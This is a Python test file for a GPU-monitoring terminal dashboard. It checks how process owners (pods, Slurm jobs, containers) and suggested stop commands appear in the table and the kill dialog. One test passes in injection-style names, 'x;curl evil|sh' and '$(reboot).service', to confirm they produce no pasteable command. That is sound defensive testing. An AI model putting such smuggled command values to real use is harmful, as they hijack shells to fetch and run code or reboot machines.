"""Owners in the dashboard: the OWNER column (inside COMMAND at 80 columns), the filter,
the job lines and the kill dialog. Headless (Textual pilot), snapshots fed explicitly."""

from __future__ import annotations

from functools import cache

from gputop.model import Snapshot
from gputop.ui.app import GpuTopApp
from gputop.ui.screens.jobs import JobsScreen
from gputop.ui.screens.kill import KillScreen, owners_text
from gputop.views import process_view
from gputop.views.process_view import matches
from tests import builders as fx
from tests.helpers.screen import terminal_rows, widgets_text

WIDE = (200, 50)
SMALL = (80, 24)


@cache
def owned(n: int = 5) -> tuple[Snapshot, ...]:
    return tuple(fx.with_owners(s) for s in fx.demo_snapshots(n))


def test_rows_carry_their_owner_label_detail_and_stop_command() -> None:
    rows = {r.pid: r for r in process_view.process_rows(owned()[-1])}
    assert rows[41201].owner == "pod ml-research/llama-pretrain-0"
    assert rows[41201].owner_detail == "pod ml-research/llama-pretrain-0 container trainer"
    assert rows[41201].stop == "kubectl delete pod --namespace ml-research -- llama-pretrain-0"
    assert (rows[61022].owner, rows[61022].stop) == ("slurm 81234.0", "scancel -- 81234")
    # the job's name is the process's claim; SLURM_JOB_USER (slurm_user) is never shown
    assert rows[61022].owner_detail == "slurm 81234.0 job name llama13b-ft (its claim)"
    assert (rows[70533].owner, rows[70533].stop) == (
        "docker 9c0ffee19c0f",
        "docker stop -- 9c0ffee19c0f",
    )
    assert rows[30115].owner is None and rows[30115].stop is None  # nobody: no column text
    assert matches(rows[52840], "resnet-ddp") and matches(rows[61022], "81234")
    assert not matches(rows[30115], "ml-research")


async def test_the_wide_table_has_an_owner_column_only_when_someone_owns_a_process() -> None:
    app = GpuTopApp(snapshots=owned())
    async with app.run_test(size=WIDE) as pilot:
        await pilot.pause()
        screen = "\n".join(terminal_rows(app))
        assert "OWNER" in screen
        assert "pod ml-research/llama-pretrai" in screen and "slurm 81234.0" in screen
        assert "docker 9c0ffee19c0f" in screen and "pod vision/resnet-ddp-7c9f" in screen
    app = GpuTopApp(snapshots=tuple(fx.demo_snapshots(5)))
    async with app.run_test(size=WIDE) as pilot:
        await pilot.pause()
        assert "OWNER" not in "\n".join(terminal_rows(app))


async def test_at_80_columns_the_owner_leads_the_command() -> None:
    app = GpuTopApp(snapshots=owned())
    async with app.run_test(size=SMALL) as pilot:
        await pilot.pause()
        screen = "\n".join(terminal_rows(app))
        assert "OWNER" not in screen
        assert "[pod ml-research/llama-pretrain-0]" in screen or "[pod ml-research/" in screen
        assert "[slurm 81234.0]" in screen


async def test_job_lines_name_their_pod_or_slurm_job() -> None:
    app = GpuTopApp(snapshots=owned())
    async with app.run_test(size=WIDE) as pilot:
        await pilot.press("j")
        await pilot.pause()
        assert isinstance(app.screen, JobsScreen)
        shown = "\n".join(terminal_rows(app))
        assert "[pod ml-research/llama-pretrain-0]" in shown
        assert "[slurm 81234.0]" in shown and "[docker 9c0ffee19c0f]" in shown


async def test_the_kill_dialog_names_the_owner_and_the_command_users_would_rather_run() -> None:
    app = GpuTopApp(snapshots=owned())
    async with app.run_test(size=WIDE) as pilot:
        await pilot.pause()
        await pilot.press("k")  # the cursor is on the first row: GPU 0, a pod's rank
        await pilot.pause()
        assert isinstance(app.screen, KillScreen)
        shown = " ".join(widgets_text(app).split())  # a long line wraps
        assert "owned by pod ml-research/llama-pretrain-0 container trainer" in shown
        assert "rather: kubectl delete pod --namespace ml-research -- llama-pretrain-0" in shown
        # beside the way out: snapshots signal nothing, so no signal is drawn (issue 32)
        assert app.screen.query_one("#cancel") and not app.screen.query("#sigterm")


async def test_the_kill_dialog_offers_no_command_built_from_a_hostile_name() -> None:
    """Issue 29: a pod or unit named to become another command when pasted gets no
    "rather: ..."; a valid one of full length is offered whole."""
    from gputop.model import Owner
    from gputop.sources.owners import stop_command

    hostile = Owner("pod", namespace="prod", pod="x;curl evil|sh", pod_uid="1" * 8)
    unit = Owner("service", unit="$(reboot).service")
    long_pod = ".".join(["a" * 63] * 3) + "." + "b" * 61  # 253 characters, a valid name
    valid = Owner("pod", namespace="n" * 63, pod=long_pod)
    assert stop_command(hostile) is None and stop_command(unit) is None
    owners = [("pod prod/x;curl evil|sh", stop_command(hostile)), ("svc x", stop_command(unit))]
    owners.append(("pod long", stop_command(valid)))
    app = GpuTopApp(snapshots=owned())
    async with app.run_test(size=(400, 50)) as pilot:
        await pilot.pause()
        app.push_screen(KillScreen([], owners=owners))
        await pilot.pause()
        shown = " ".join(widgets_text(app).split())
        assert "rather:" in shown and shown.count("rather:") == 1
        assert "".join(long_pod.split(".")[:1]) in shown
    # the dialog's text keeps the whole command (the screen wraps it, never cuts it)
    assert f"rather: kubectl delete pod --namespace {'n' * 63} -- {long_pod}\n" in (
        owners_text(owners).plain + "\n"
    )
